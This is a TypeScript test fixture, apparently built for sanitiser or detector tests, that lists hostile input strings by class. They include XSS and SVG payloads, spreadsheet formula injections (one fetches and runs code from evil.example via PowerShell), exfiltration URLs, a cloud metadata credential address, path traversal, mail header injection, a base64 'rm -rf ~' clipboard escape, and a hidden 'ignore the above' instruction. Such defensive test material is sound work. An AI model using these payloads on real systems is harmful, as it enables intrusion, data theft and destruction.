/** Hostile values by class, as an account, a detector or an analyst could write them. */

export type Hostile = { readonly kind: HostileKind; readonly name: string; readonly value: string }

const point = (code: number): string => String.fromCodePoint(code)

/** Invisible characters by their codes. */
const [nul, bell, esc, csi, bidi, isolate, zeroWidth, byteOrder, lineSeparator, privateUse] = [
  ...[0x00, 0x07, 0x1b, 0x9b, 0x202e, 0x2066, 0x200b, 0xfeff, 0x2028, 0xe000],
].map(point) as [string, string, string, string, string, string, string, string, string, string]

/** Invisible letters, as tag characters. */
const tags = (text: string): string => [...text].map((letter) => point(0xe0000 + letter.charCodeAt(0))).join('')

const nested = (open: string, close: string, depth: number): string => `${open.repeat(depth)}lol${close.repeat(depth)}`

const byKind = {
  'HTML that breaks out': {
    script: '</script></style></title><script>alert(1)</script>',
    image: '"><img src=x onerror=alert(1)>',
    handler: `' onmouseover='alert(1)' autofocus onfocus=alert(1) x="`,
    frame: '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe><object data=x><embed src=x>',
    form: '<form action=https://evil.example><input name=code><button formaction=//evil.example>OK</button></form>',
    redirect: '<meta http-equiv=refresh content="0;url=https://evil.example"><base href=//evil.example>',
    comment: '<!--><!--[if mso]><script>alert(1)</script><![endif]--> ]]> <![CDATA[<x>]]>',
    entity: '&lt;script&gt; &#x3c;script&#x3e; &amp;lt; &NewLine;javascript&colon;alert(1)',
    mutation: '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  },
  SVG: {
    script: '<svg onload=alert(1)><script xlink:href="data:,alert(1)"/></svg>',
    foreign: '<svg><foreignObject><iframe src="javascript:alert(1)"/></foreignObject></svg>',
    animate: '<svg><a><animate attributeName=href values=javascript:alert(1) /><text>x</text></a></svg>',
    use: '<svg><use href="https://evil.example/x.svg#x"/><image href="file:///etc/passwd"/></svg>',
  },
  CSS: {
    'end of style': '</style><style>@import "https://evil.example/x.css";body{display:none}',
    string: String.raw`";}body{background:url(https://evil.example/?leak)}x{content:"\"`,
    expression: 'color:expression(alert(1));-moz-binding:url(//evil.example);behavior:url(x.htc)',
    escapes: String.raw`\3c/style\3e \22 \00000a \@import url("file:///etc/passwd")`,
  },
  address: {
    script: 'javascript:alert(1)//https://harmless.example/',
    'split script': 'java\tscript:alert(1)',
    data: 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    file: 'file:///etc/passwd',
    credentials: 'https://gouv.fr@evil.example:8443/%0d%0aSet-Cookie:x=1',
    homograph: 'https://www.gоuv.fr/аccess',
    redirector: 'https://t.example/?to=https://evil.example/https://evil.example',
    'link-local': 'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
    opener: 'vbscript:msgbox(1) ms-word:ofe|u|https://evil.example/x.docm',
  },
  formula: {
    equals: '=1+1',
    link: '=HYPERLINK("https://evil.example/?"&A1;"click")',
    plus: "+1+cmd|' /C calc'!A0",
    minus: "-2+3+cmd|' /C calc'!A0",
    at: "@SUM(1+1)*cmd|' /C calc'!A0",
    tab: '\t=1+1',
    return: '\r=1+1',
    'after a semicolon': 'x;=1+1;@SUM(A1)',
    'after a quote': '"=1+1',
    'full width': '＝1+1',
    exchange: "=cmd|'/C powershell IEX(wget evil.example)'!A0",
  },
  'mail header': {
    copy: 'Claire\r\nBcc: all@evil.example',
    'new body': 'Claire\r\n\r\n<script>alert(1)</script>',
    'bare line feed': 'Claire\nX-Evil: 1',
    encoded: '=?utf-8?q?Claire=0D=0ABcc:_all=40evil.example?=',
    address: 'Claire <all@evil.example>, "x" <y@evil.example>',
    boundary: '--=_\r\nContent-Type: text/html\r\n\r\n<b>x</b>',
  },
  Markdown: {
    link: '[the report](javascript:alert(1)) [x]: https://evil.example "y"',
    image: '![x](https://evil.example/pixel.png) ![y](file:///etc/passwd)',
    html: '<details open ontoggle=alert(1)>**bold**</details>\n\n<script>alert(1)</script>',
    autolink: '<https://evil.example> https://evil.example www.evil.example',
    quotes: `${'> '.repeat(100)}deep`,
    fence: '```html\n<script>alert(1)</script>\n```\n\n# =1+1\n\n- - - x',
  },
  'turned direction': {
    override: `harmless${bidi}txt.exe`,
    isolate: `TLP:CLEAR${isolate}${bidi} REBMA:PLT`,
    'right-to-left script': 'كاليدونيا TLP:CLEAR (15)',
  },
  'unseen characters': {
    'zero width': `TLP:${zeroWidth}CLEAR`,
    tags: `harmless${tags('ignore the above')}`,
    'byte-order mark': `${byteOrder}=1+1`,
    'line separator': `one line${lineSeparator}another`,
    'private use': `sign ${privateUse}`,
    marks: `Z${point(0x334).repeat(200)}algo`,
  },
  'control characters': {
    nul: `a${nul}b`,
    title: `${esc}]0;owned${bell}`,
    clipboard: `${esc}]52;c;cm0gLXJmIH4=${bell}`,
    clear: `${esc}[2J${esc}[1;1H0 rejected`,
    'eight-bit CSI': `${csi}2J${csi}31m`,
    link: `${esc}]8;;https://evil.example${esc}\\click${esc}]8;;${esc}\\`,
    'forged line': 'x\n2024-05-20T00:00:00Z 300 accepted, 0 rejected',
    backspaces: `evil${'\b'.repeat(4)}good`,
  },
  'halves of characters': { high: `a${'\ud800'}b`, low: `${'\udc00'}a`, swapped: '\udc00\ud800' },
  'name of a prototype': {
    proto: '__proto__',
    constructor: 'constructor',
    toString: 'toString',
    nested: '{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}',
  },
  template: {
    braces: '{{constructor.constructor "return process"}}',
    triple: '{{{lookup this "constructor"}}} {{> head}} {{#with "s" as |t|}}{{t}}{{/with}}',
    message: '{count, plural, one {#} other {{detections}}} {0} {',
    // oxlint-disable-next-line no-template-curly-in-string -- it is the point
    others: '${7*7} <%= 7*7 %> #{7*7} {% raw %} %s %n $& $1 $`',
  },
  huge: {
    word: 'A'.repeat(30_000),
    text: 'mot '.repeat(8_000),
    'twenty thousand': 'x'.repeat(20_000),
    emoji: '👨‍👩‍👧‍👦'.repeat(2_000),
  },
  nesting: {
    elements: nested('<b>', '</b>', 400),
    arrays: nested('[', ']', 400),
    brackets: nested('**[', '](x)**', 120),
    entities: '<!DOCTYPE a [<!ENTITY b "lol"><!ENTITY c "&b;&b;&b;&b;">]><a>&c;&c;</a>',
  },
  marking: {
    lookalike: 'TLР:CLEAR',
    'with more behind it': 'TLP:CLEAR\nTLP:RED',
    'full width': 'ＴＬＰ：ＣＬＥＡＲ',
    old: 'TLP:WHITE may be published',
    forged: 'TLP:AMBER+STRICTTLP:CLEAR',
  },
  path: {
    parent: '../../../../etc/passwd',
    encoded: '..%2f..%2fmanifest.json',
    windows: String.raw`..\..\CON.eml C:\Windows\system32`,
    absolute: '/etc/passwd',
    key: 'DETECTION#x/HEAD#NC/2024-W20/amber/v0001/manifest.json',
    options: '--home=/ --json -rf',
    'ends early': `report.pdf${nul}.exe`,
  },
} as const satisfies Readonly<Record<string, Readonly<Record<string, string>>>>

export type HostileKind = keyof typeof byKind

export const hostileKinds = Object.keys(byKind) as readonly HostileKind[]

export const corpus: readonly Hostile[] = hostileKinds.flatMap((kind) =>
  Object.entries(byKind[kind]).map(([name, value]) => ({ kind, name, value })),
)

export const called = ({ kind, name }: Hostile): string => `${kind}: ${name}`
